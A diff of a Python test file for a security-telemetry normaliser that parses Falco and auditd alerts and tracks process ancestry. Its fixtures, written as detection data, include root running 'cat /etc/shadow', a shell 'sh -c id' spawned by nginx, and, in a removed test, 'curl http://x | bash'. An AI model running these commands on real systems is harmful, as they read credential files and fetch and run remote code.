@@ -13,7 +13,7 @@ from opentelemetry.proto.common.v1.common_pb2 import KeyValue
 from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord
 
 from core import semconv
-from otlp_receiver.normalize import Normalizer, ProcessTree
+from otlp_receiver.normalize import Normalizer
 from otlp_receiver.normalize.auditd import parse_line
 from otlp_receiver.normalize.tetragon import split_arguments
 from otlp_receiver.normalize.values import MAX_ARGS, MAX_COMMAND_LINE
@@ -114,7 +114,7 @@ def test_falco_user_path_and_time() -> None:
     assert (event.executable_name, event.executable_path, event.command_line) == ("cat", "/usr/bin/cat",
                                                                                    "cat /etc/shadow")
     assert (event.user_name, event.user_id, event.real_user_id) == ("root", 0, None)  # user.uid: the euid
-    assert event.parent_name == "sudo" and event.ancestors == ("sudo", "sudo", "zsh", "kitty")
+    assert event.parent_name == "sudo" and event.ancestors == ("sudo", "sudo", "zsh", "kitty")  # proc.aname[]
     assert event.container_id == "" and event.host == "x86"  # container.id "host": no container
     assert rec.time_unix_nano == 1_746_622_234_502_309_868  # `time`, to the nanosecond
     assert rec.observed_time_unix_nano == OBSERVED
@@ -139,7 +139,7 @@ def test_falco_name_is_the_base_name_of_the_exe_path() -> None:
     assert (event.executable_name, event.executable_path, event.command_line) == ("busybox", "/bin/busybox", "login")
 
 
-def test_falco_lines_as_filelog_ships_them_and_the_process_tree() -> None:
+def test_falco_lines_as_filelog_ships_them() -> None:
     normalizer = Normalizer()
     first, second = (normalizer.normalize("default", {}, record(line, log__file__name="events.txt"))
                      for line in (TESTDATA / "falco.jsonl").read_text().splitlines())
@@ -148,9 +148,7 @@ def test_falco_lines_as_filelog_ships_them_and_the_process_tree() -> None:
     assert (event.executable_name, event.command_line, event.parent_name) == ("dash", "sh -c id", "nginx")
     assert event.user_id == 33 and event.pid == 4242 and event.parent_pid == 4200 and event.host == "web-1"
     assert event.executable_path == "/usr/bin/dash" and event.container_id == ""
-    assert event.ancestors == ("nginx", "systemd")
-    # The second alert's process is a child of the first: the tree links curl -> sh -> nginx.
-    assert second.event.ancestors == ("sh", "nginx")  # its proc.pname names the parent
+    assert event.ancestors == ("nginx", "systemd")  # Falco's own proc.aname[]
     assert second.event.container_id == "3ad7b26ded6d"
 
 
@@ -459,29 +457,3 @@ def test_other_records_are_unrecognised_not_errors() -> None:
     # Process keys without what scoring needs are invalid, not silently dropped.
     assert normalizer.normalize("default", {}, record("x", process__pid=5, process__command_line="")).kind == "invalid"
     assert not normalizer.failures
-
-
-def test_process_tree_sees_shell_under_nginx_through_sh_c() -> None:
-    normalizer = Normalizer()
-    events = [
-        agent_record("sh", "sh -c curl http://x | bash", 200, 100, parent="nginx"),
-        agent_record("curl", "curl http://x", 201, 200),
-        agent_record("bash", "bash", 202, 200),
-        agent_record("id", "id", 203, 202),
-    ]
-    ancestors = [normalizer.normalize("default", AGENT, e).event.ancestors for e in events]
-    assert ancestors == [("nginx",), ("sh", "nginx"), ("sh", "nginx"), ("bash", "sh", "nginx")]
-    other = normalizer.normalize("default", {**AGENT, "host.name": "web-2"}, events[3]).event
-    assert other.ancestors == ()
-
-
-def test_process_tree_is_bounded_and_survives_cycles() -> None:
-    tree = ProcessTree(max_processes=100, max_hosts=2)
-    for pid in range(1000):
-        tree.observe(("t", "h"), pid, "p", pid - 1, "")
-    assert tree.size(("t", "h")) == 100
-    tree.observe(("t", "h"), 5, "a", 6, "")
-    assert tree.observe(("t", "h"), 6, "b", 5, "") == ("a",)  # a cycle stops the walk
-    for host in ("x", "y", "z"):
-        tree.observe(("t", host), 1, "init", None, "")
-    assert tree.size(("t", "h")) == 0  # the least recently used host was evicted
